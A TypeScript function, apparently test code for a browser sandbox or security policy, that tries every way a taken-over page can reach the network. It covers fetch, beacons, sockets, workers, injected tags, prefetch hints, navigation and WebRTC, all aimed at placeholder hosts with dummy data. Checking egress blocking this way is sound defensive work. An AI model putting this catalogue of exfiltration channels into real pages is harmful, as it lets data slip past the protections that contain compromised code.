/**
 * Every way in which a page can reach the network, tried by a page that somebody took over. Runs in the page, so it knows
 * nothing from outside of itself.
 */
export async function attempts(): Promise<void> {
  const hosts = ["asked.example", "203.0.113.9"];
  const tried = (attempt: () => void) => {
    try {
      attempt();
    } catch {
      // Refused at once.
    }
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>) =>
    tried(() => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    });

  for (const host of hosts) {
    for (const origin of [`https://${host}`, `http://${host}`]) {
      await fetch(`${origin}/fetch`, { mode: "no-cors" }).catch(() => undefined);
      tried(() => navigator.sendBeacon(`${origin}/beacon`, "x"));
      tried(() => new WebSocket(`${origin.replace("http", "ws")}/socket`));
      tried(() => new EventSource(`${origin}/events`));
      tried(() => new Worker(`${origin}/worker.js`));
      add("img", { src: `${origin}/image` });
      add("iframe", { src: `${origin}/frame` });
      add("video", { src: `${origin}/video` });
      add("object", { data: `${origin}/object` });
      add("script", { src: `${origin}/script.js` });
      for (const rel of [
        "dns-prefetch",
        "preconnect",
        "prefetch",
        "prerender",
        "modulepreload",
        "stylesheet",
        "icon",
      ]) {
        add("link", { rel, href: `${origin}/${rel}` });
      }
      add("link", { rel: "preload", as: "image", href: `${origin}/preload` });
      tried(() => {
        const rules = document.createElement("script");
        rules.type = "speculationrules";
        rules.textContent = JSON.stringify({ prefetch: [{ urls: [`${origin}/rules`], eagerness: "immediate" }] });
        document.body.append(rules);
      });
      tried(() => window.open(`${origin}/window`));
      tried(() => location.assign(`${origin}/location`));
    }
    add("link", { rel: "dns-prefetch", href: `//${host}` });
    if ("WebTransport" in window) {
      tried(() => {
        new WebTransport(`https://${host}/transport`).ready.catch(() => undefined);
      });
    }
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${host}:3478` },
        { urls: `turn:${host}:443?transport=tcp`, username: "a", credential: "b" },
        { urls: `turns:${host}:443?transport=tcp`, username: "a", credential: "b" },
      ],
    });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  }
}
